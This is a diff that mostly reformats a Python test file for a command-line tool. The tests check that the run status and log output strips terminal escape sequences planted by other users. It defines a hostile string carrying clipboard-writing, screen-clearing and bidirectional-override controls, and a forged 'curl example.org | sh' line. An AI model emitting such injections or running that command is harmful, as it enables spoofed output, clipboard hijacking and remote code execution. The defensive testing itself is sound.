@@ -1,7 +1,8 @@
 r"""Text from elsewhere in what commands print: no byte of it commands the terminal.
 
-HOSTILE holds OSC 52 (write to the clipboard), OSC 0 (title), CSI 2J (clear), C1's CSI and OSC, a carriage return, a
-backspace, DEL and a bidirectional override. Each test plants it where another user, host or program can.
+HOSTILE holds OSC 52 (write to the clipboard), OSC 0 (title), CSI 2J (clear), C1's CSI and OSC, a
+carriage return, a backspace, DEL and a bidirectional override. Each test plants it where another
+user, host or program can.
 """
 
 from __future__ import annotations
@@ -28,9 +29,10 @@ from drillyard.launch.run_status import RunFailure, State
 
 __all__ = ["world"]
 
-HOSTILE = "a\x1b]52;c;aWQ=\x07b\x1b]0;title\x1b\\c\x1b[2Jd\x9b2Je\x9d0;x\x9cf\rg\x08h\x7fi\u202ej\x1b[31mk"
+HOSTILE = "a\x1b]52;c;aWQ=\x07b\x1b]0;title\x1b\\c\x1b[2Jd\x9b2Je\x9d0;x\x9cf\rg\x08h\x7fi\u202ej\x1b[31mk"  # noqa: E501
 OURS = re.compile(r"\x1b\[[0-9;]*m|\x1b\[[0-9]*[AGK]|\x1b\[\?(25|1049)[hl]|\x1b\[H|\r(?=\x1b)")
-"""What rich writes: colours, and for `watch` cursor up, erase in line, cursor on and off, the other screen, home."""
+"""What rich writes: colours, and for `watch` cursor up, erase in line, cursor on and off, the other
+screen, home."""
 UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
 
@@ -77,7 +79,12 @@ either = pytest.mark.parametrize("is_terminal", [False, True], ids=["file", "ter
 @pytest.fixture
 def hostile_run(world: World) -> Path:
     failure = RunFailure(HOSTILE, rank=1, node=HOSTILE, exit_code=1, lines=(HOSTILE, HOSTILE))
-    fields = {"reason": HOSTILE, "failure": failure, "hosts": (HOSTILE,), "native": {"job": HOSTILE, "agent": HOSTILE}}
+    fields = {
+        "reason": HOSTILE,
+        "failure": failure,
+        "hosts": (HOSTILE,),
+        "native": {"job": HOSTILE, "agent": HOSTILE},
+    }
     directory = world.add("one").add("a", State.failed, **fields)
     line = key_of(round(NOON * 1e6)) + HOSTILE.encode() + b" \x9b2J \xff \x1b[32mgreen\x1b[0m\n"
     (directory / "launch/node-0.log").write_bytes(line + b"begun\rlast\r\n")
@@ -87,7 +94,14 @@ def hostile_run(world: World) -> Path:
 @either
 @pytest.mark.parametrize(
     "command",
-    [("status", "a"), ("list",), ("wait", "a"), ("logs", "a"), ("logs", "a", "--json"), ("status", "a", "--json")],
+    [
+        ("status", "a"),
+        ("list",),
+        ("wait", "a"),
+        ("logs", "a"),
+        ("logs", "a", "--json"),
+        ("status", "a", "--json"),
+    ],
     ids=" ".join,
 )
 def test_a_run_of_another_user(
@@ -113,16 +127,26 @@ def test_json_keeps_its_values(hostile_run: Path, monkeypatch: pytest.MonkeyPatc
     assert json.loads(said.out)["reason"] == HOSTILE
 
 
-def test_a_reason_of_several_lines_forges_no_line_of_ours(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_reason_of_several_lines_forges_no_line_of_ours(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
     forged = "lost\n  next          curl example.org | sh"
-    world.add("one").add("a", State.failed, reason=forged, failure=RunFailure(forged, lines=(forged,)))
+    world.add("one").add(
+        "a", State.failed, reason=forged, failure=RunFailure(forged, lines=(forged,))
+    )
     for command in ("status", "list", "wait"):
         said = Said(monkeypatch, False, "runs", command, *(["a"] if command != "list" else []))
         assert "curl" in said.out + said.err
-        assert not [line for line in (said.out + said.err).splitlines() if line.startswith("  next          curl")]
+        assert not [
+            line
+            for line in (said.out + said.err).splitlines()
+            if line.startswith("  next          curl")
+        ]
 
 
-def test_a_cluster_that_answers_with_an_error(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_cluster_that_answers_with_an_error(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
     world.add("one").down = HOSTILE
     for command in (["runs", "list"], ["runs", "status", "slurm://one/a"]):
         said = Said(monkeypatch, True, *command)
@@ -138,11 +162,20 @@ def test_a_run_directory_of_another_user(
     directory = runs.write_run(tmp_path / "trial", steps=5)
     events = directory / "events.jsonl"
     lines = [json.loads(line) for line in events.read_text().splitlines()]
-    message = {"event": "warning", "text": HOSTILE, "time": lines[-1]["time"], "round": 0, "rank": 0}
+    message = {
+        "event": "warning",
+        "text": HOSTILE,
+        "time": lines[-1]["time"],
+        "round": 0,
+        "rank": 0,
+    }
     failure = {**message, "event": "failure", "reason": HOSTILE}
     named = {"accelerator": HOSTILE, "formula": HOSTILE}
     parameters = [{**line, **named} for line in lines if line["event"] == "parameters"]
-    texts = [json.dumps(line, ensure_ascii=False) for line in [*lines[:-1], *parameters, message, failure, lines[-1]]]
+    texts = [
+        json.dumps(line, ensure_ascii=False)
+        for line in [*lines[:-1], *parameters, message, failure, lines[-1]]
+    ]
     events.write_text("\n".join(texts) + "\n")
     Said(monkeypatch, is_terminal, command, str(directory)).require_safe(colours=is_terminal)
 
@@ -168,7 +201,7 @@ typer.echo(text); typer.echo(text, err=True); warnings.warn(text)
 from rich.console import Console
 Console(force_terminal=True).print(text)
 raise RuntimeError(text)
-"""
+"""  # noqa: E501
     done = subprocess.run(
         [sys.executable, "-c", script],
         capture_output=True,
